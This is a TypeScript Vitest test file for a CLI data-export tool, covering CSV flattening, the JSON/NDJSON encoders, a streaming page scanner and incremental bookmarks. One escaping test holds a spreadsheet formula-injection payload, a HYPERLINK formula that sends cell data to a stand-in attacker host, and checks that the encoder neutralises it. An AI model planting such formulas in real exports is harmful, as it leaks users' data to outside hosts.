// The pieces of `ferry export` that need no service: CSV flattening and its header,
// the three encoders (also resumed from a saved state), and the bookmark rules.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { BookmarkTracker, incrementalQuery, MAX_BOUNDARY_IDS } from '../../src/ops/export/bookmark.js';
import { ColumnOrder, cellText, csvCell, leafPaths } from '../../src/ops/export/flatten.js';
import { parsedPage, readPage } from '../../src/ops/export/page.js';
import { scanPage } from '../../src/ops/export/page-scan.js';
import { createEncoder } from '../../src/ops/export/writers.js';
import { formatFor } from '../../src/cli/commands/export.js';

describe('flatten', () => {
  it('walks objects into dotted paths and keeps arrays whole', () => {
    expect(leafPaths({ id: 1, ref: { id: 2, deep: { a: null } }, lines: [{ x: 1 }], empty: {} })).toEqual(['id', 'ref.id', 'ref.deep.a', 'lines']);
  });

  it('orders columns as the records list their fields, whichever record comes first', () => {
    const a = { id: 1, issueDate: 'd', dueDate: 'd', currency: 'GBP', status: 'Paid' };
    const b = { id: 2, issueDate: 'd', dueDate: 'd', paidOnDate: 'p', currency: 'GBP', note: 'n', status: 'Paid' };
    for (const order of [[a, b], [b, a]]) {
      const columns = new ColumnOrder();
      for (const record of order) columns.add(record);
      expect(columns.list()).toEqual(['id', 'issueDate', 'dueDate', 'paidOnDate', 'currency', 'note', 'status']);
    }
  });

  it('quotes cells with commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(cellText(null)).toBe('');
    expect(cellText(false)).toBe('false');
    expect(cellText(0.1)).toBe('0.1');
    expect(cellText([1, 'a'])).toBe('[1,"a"]');
  });
});

/** A page as the service would send it (compact JSON), read back by the scanner. */
const page = (results: unknown[]) => readPage(Buffer.from(JSON.stringify({ results, pageNumber: 1, pageSize: 100, totalResults: results.length, _links: {} }))).records;
const text = (encoded: { chunks: Buffer[] }) => Buffer.concat(encoded.chunks).toString('utf8');

describe('encoders', () => {
  const page1 = [{ id: 'a', name: 'x, "y"', ref: { id: 1 } }, { id: 'b', name: 'multi\nline', ref: { id: 2 }, tags: ['t'] }];
  const page2 = [{ id: 'c', name: 'z', ref: { id: 3, extra: true }, later: 5 }];

  it('csv: header from the first page; later fields go to _extra; parses back', () => {
    const encoder = createEncoder('csv', false);
    const first = encoder.page(page(page1));
    const second = encoder.page(page(page2));
    expect(second.extraRows).toBe(1);
    const rows = parse(text(first) + text(second) + encoder.finish()) as string[][];
    expect(rows).toEqual([
      ['id', 'name', 'ref.id', 'tags', '_extra'],
      ['a', 'x, "y"', '1', '', ''],
      ['b', 'multi\nline', '2', '["t"]', ''],
      ['c', 'z', '3', '', '{"ref.extra":true,"later":5}'],
    ]);
  });

  it('csv: text a spreadsheet would run gets a leading apostrophe; numbers stay numbers; csvEscape false keeps it raw', () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const records = [{ customerName: formula, note: '-x', at: '@SUM(A1)', plus: '+1 555', tab: '\tx', cr: '\rx', amount: -5, decimal: '-12.50', ok: 'Acme' }];
    const escaped = parse(text(createEncoder('csv', false).page(page(records)))) as string[][];
    expect(escaped[1]).toEqual([`'${formula}`, "'-x", "'@SUM(A1)", "'+1 555", "'\tx", "'\rx", '-5', '-12.50', 'Acme', '']);
    const raw = parse(text(createEncoder('csv', false, undefined, false).page(page(records)))) as string[][];
    expect(raw[1]).toEqual([formula, '-x', '@SUM(A1)', '+1 555', '\tx', '\rx', '-5', '-12.50', 'Acme', '']);
    const resumed = createEncoder('csv', false, createEncoder('csv', false).state(), false);
    expect((parse(text(resumed.page(page(records)))) as string[][])[1]![0]).toBe(formula);
  });

  it('csv with --all-companies: companyId first; no records → a header only', () => {
    const encoder = createEncoder('csv', true);
    expect(text(encoder.page(page(page1), undefined, 'co-1')).split('\n')[0]).toBe('companyId,id,name,ref.id,tags,_extra');
    expect(createEncoder('csv', true).finish()).toBe('companyId,_extra\n');
  });

  it('csv resumed from a saved state keeps the header and writes none again', () => {
    const encoder = createEncoder('csv', false);
    encoder.page(page(page1));
    const resumed = createEncoder('csv', false, JSON.parse(JSON.stringify(encoder.state())));
    expect(text(resumed.page(page(page2)))).toBe('c,z,3,,"{""ref.extra"":true,""later"":5}"\n');
  });

  it('json: one document, a record per line; resumed encoders continue the array', () => {
    const encoder = createEncoder('json', true);
    let doc = encoder.start() + text(encoder.page(page(page1), undefined, 'co-1'));
    const resumed = createEncoder('json', true, encoder.state());
    doc += text(resumed.page(page(page2), undefined, 'co-2')) + resumed.finish();
    const parsed = JSON.parse(doc);
    expect(parsed.map((r: any) => `${r.companyId}/${r.id}`)).toEqual(['co-1/a', 'co-1/b', 'co-2/c']);
    expect(doc.split('\n')).toEqual(['[', expect.any(String), expect.any(String), expect.any(String), ']', '']);
    const empty = createEncoder('json', false);
    expect(JSON.parse(empty.start() + text(empty.page(page([]))) + empty.finish())).toEqual([]);
  });

  it('ndjson: a line per record, companyId first with --all-companies; a record\'s own companyId wins', () => {
    const encoder = createEncoder('ndjson', true);
    const records = [{ id: 'a' }, { id: 'b', companyId: 'own' }, {}, { x: { companyId: 'nested' } }];
    const expected = '{"companyId":"co-1","id":"a"}\n{"id":"b","companyId":"own"}\n{"companyId":"co-1"}\n{"companyId":"co-1","x":{"companyId":"nested"}}\n';
    expect(text(encoder.page(page(records), undefined, 'co-1'))).toBe(expected);
    // The same from a parsed page (the fallback path).
    expect(text(createEncoder('ndjson', true).page(parsedPage({ results: records }).records, undefined, 'co-1'))).toBe(expected);
    // keep() leaves records out.
    expect(text(createEncoder('ndjson', false).page(page(records), (i) => i === 1))).toBe('{"id":"b","companyId":"own"}\n');
  });

  it('the format follows the --out extension unless --format says otherwise', () => {
    expect(formatFor({ out: 'x.csv' })).toBe('csv');
    expect(formatFor({ out: 'X.JSON' })).toBe('json');
    expect(formatFor({ out: 'x.ndjson' })).toBe('ndjson');
    expect(formatFor({})).toBe('ndjson');
    expect(formatFor({ out: 'x.csv', format: 'json' })).toBe('json');
  });
});

describe('the page scanner', () => {
  const tricky = [
    { id: 'q', s: 'a "quoted" }{ ][ , value', back: 'ends with a backslash \\', esc: 'tab\tnl\nuni\u2028é😀' },
    { id: 'n', nested: { deep: [{ a: [1, [2, { b: '}' }]] }], empty: {}, list: [] }, n: -1.5e-7, t: true, f: false, z: null },
    {},
  ];

  it('splits records out of the bytes exactly as JSON.stringify wrote them, escapes and nesting included', () => {
    const body = Buffer.from(JSON.stringify({ results: tricky, pageNumber: 3, pageSize: 3, totalResults: 9, _links: { next: { href: '/x?page=4' } } }));
    const read = readPage(body);
    expect(read.scanned).toBe(true);
    expect(read.meta).toEqual({ totalResults: 9, pageNumber: 3, pageSize: 3, next: '/x?page=4' });
    expect(read.records.count).toBe(3);
    tricky.forEach((record, i) => {
      expect(read.records.bytes(i)!.toString('utf8')).toBe(JSON.stringify(record));
      expect(read.records.object(i)).toEqual(record);
    });
  });

  it('gives the same records however the response is cut into chunks (keys, escapes and records across boundaries)', () => {
    const records = [...tricky, { companyId: 'own', id: 'c' }];
    const body = Buffer.from(JSON.stringify({ results: records, pageNumber: 1, totalResults: 4, _links: { next: { href: '/n' } } }));
    const expected = records.map((r) => `${JSON.stringify(r)}\n`).join('');
    for (const size of [1, 2, 3, 5, 7, 11, 64]) {
      const chunks: Buffer[] = [];
      for (let at = 0; at < body.length; at += size) chunks.push(body.subarray(at, at + size));
      const read = readPage(chunks);
      expect(read.scanned, `chunks of ${size}`).toBe(true);
      expect(read.meta).toEqual({ totalResults: 4, pageNumber: 1, next: '/n' });
      expect(text(createEncoder('ndjson', false).page(read.records)), `chunks of ${size}`).toBe(expected);
      expect([0, 1, 2, 3].map((i) => read.records.ownsCompanyId(i))).toEqual([false, false, false, true]);
      expect(read.records.object(1)).toEqual(records[1]);
      expect(text(createEncoder('ndjson', true).page(read.records, undefined, 'co'))).toBe(
        records.map((r) => `${JSON.stringify('companyId' in r ? r : { companyId: 'co', ...r })}\n`).join(''),
      );
    }
  });

  it('ndjson writes the response bytes in place when records are back to back, copies them otherwise', () => {
    const compact = readPage(Buffer.from('{"results":[{"a":1},{"b":"x,y"},{"c":[1,2]}],"totalResults":3}'));
    const joined = compact.records.joinInPlace(0x0a)!;
    expect(Buffer.concat(joined).toString()).toBe('{"a":1}\n{"b":"x,y"}\n{"c":[1,2]}');
    const spaced = readPage(Buffer.from('{"results":[{"a":1}, {"b":2} ,{"c":3}],"totalResults":3}'));
    expect(spaced.records.joinInPlace(0x0a)).toBeUndefined();
    expect(text(createEncoder('ndjson', false).page(spaced.records))).toBe('{"a":1}\n{"b":2}\n{"c":3}\n');
    expect(text(createEncoder('ndjson', false).page(page([])))).toBe('');
  });

  it('finds results wherever the envelope puts them, and only the top-level companyId', () => {
    const body = Buffer.from(`{ "totalResults": 2, "results" : [ {"companyId":"own","a":1} , {"a":{"companyId":"deep"},"b":"companyId"} ], "_links": {} }`);
    const read = readPage(body);
    expect(read.scanned).toBe(true);
    expect(read.meta.totalResults).toBe(2);
    expect([read.records.ownsCompanyId(0), read.records.ownsCompanyId(1)]).toEqual([true, false]);
    expect(read.records.bytes(1)!.toString()).toBe('{"a":{"companyId":"deep"},"b":"companyId"}');
  });

  it('parses the page whole when records span lines or are not objects', () => {
    const pretty = Buffer.from(JSON.stringify({ results: tricky, totalResults: 3 }, null, 2));
    expect(scanPage([pretty])).toBeUndefined();
    const read = readPage(pretty);
    expect(read.scanned).toBe(false);
    expect(text(createEncoder('ndjson', false).page(read.records))).toBe(tricky.map((r) => `${JSON.stringify(r)}\n`).join(''));
    expect(scanPage([Buffer.from('{"results":[1,2],"totalResults":2}')])).toBeUndefined();
    expect(scanPage([Buffer.from('{"results":["a"],"totalResults":1}')])).toBeUndefined();
    expect(scanPage([Buffer.from('{"results":[{"a":"unterminated}]}')])).toBeUndefined();
    expect(readPage(Buffer.from('{"results":[],"totalResults":0,"_links":{}}')).records.count).toBe(0);
  });
});

describe('bookmarks', () => {
  it('combines with the user query, grouping it', () => {
    const bookmark = { modifiedDate: '2026-01-02T03:04:05Z', ids: [] };
    expect(incrementalQuery(undefined, undefined)).toBeUndefined();
    expect(incrementalQuery('status=paid', undefined)).toBe('status=paid');
    expect(incrementalQuery(undefined, bookmark)).toBe('modifiedDate>=2026-01-02T03:04:05Z');
    expect(incrementalQuery('status=paid || status=void', bookmark)).toBe('{status=paid || status=void} && modifiedDate>=2026-01-02T03:04:05Z');
  });

  it('keeps the newest second and the ids at it; leaves out what the last run exported at that second', () => {
    const tracker = new BookmarkTracker(undefined);
    for (const [id, modifiedDate] of [['a', '2026-01-01T00:00:01Z'], ['b', '2026-01-01T00:00:03Z'], ['c', '2026-01-01T00:00:02Z'], ['d', '2026-01-01T00:00:03Z']]) {
      tracker.see({ id, modifiedDate });
    }
    const bookmark = tracker.result('2026-02-01T00:00:00Z')!;
    expect(bookmark).toEqual({ modifiedDate: '2026-01-01T00:00:03Z', ids: ['b', 'd'], exportedAt: '2026-02-01T00:00:00Z' });
    const next = new BookmarkTracker(bookmark);
    expect(next.alreadyExported({ id: 'b', modifiedDate: '2026-01-01T00:00:03Z' })).toBe(true);
    expect(next.alreadyExported({ id: 'e', modifiedDate: '2026-01-01T00:00:03Z' })).toBe(false);
    expect(next.alreadyExported({ id: 'b', modifiedDate: '2026-01-01T00:00:04Z' })).toBe(false);
    // Nothing newer seen: the bookmark stays (with the ids seen again at that second).
    next.see({ id: 'b', modifiedDate: '2026-01-01T00:00:03Z' });
    next.see({ id: 'e', modifiedDate: '2026-01-01T00:00:03Z' });
    expect(next.result('x')).toMatchObject({ modifiedDate: '2026-01-01T00:00:03Z', ids: ['b', 'e'] });
    expect(new BookmarkTracker(bookmark).result('x')).toBe(bookmark);
  });

  it(`remembers at most ${MAX_BOUNDARY_IDS} ids at the newest second`, () => {
    const tracker = new BookmarkTracker(undefined);
    for (let i = 0; i < MAX_BOUNDARY_IDS + 10; i++) tracker.see({ id: `r${i}`, modifiedDate: '2026-01-01T00:00:00Z' });
    expect(tracker.result('x')!.ids).toHaveLength(MAX_BOUNDARY_IDS);
  });
});
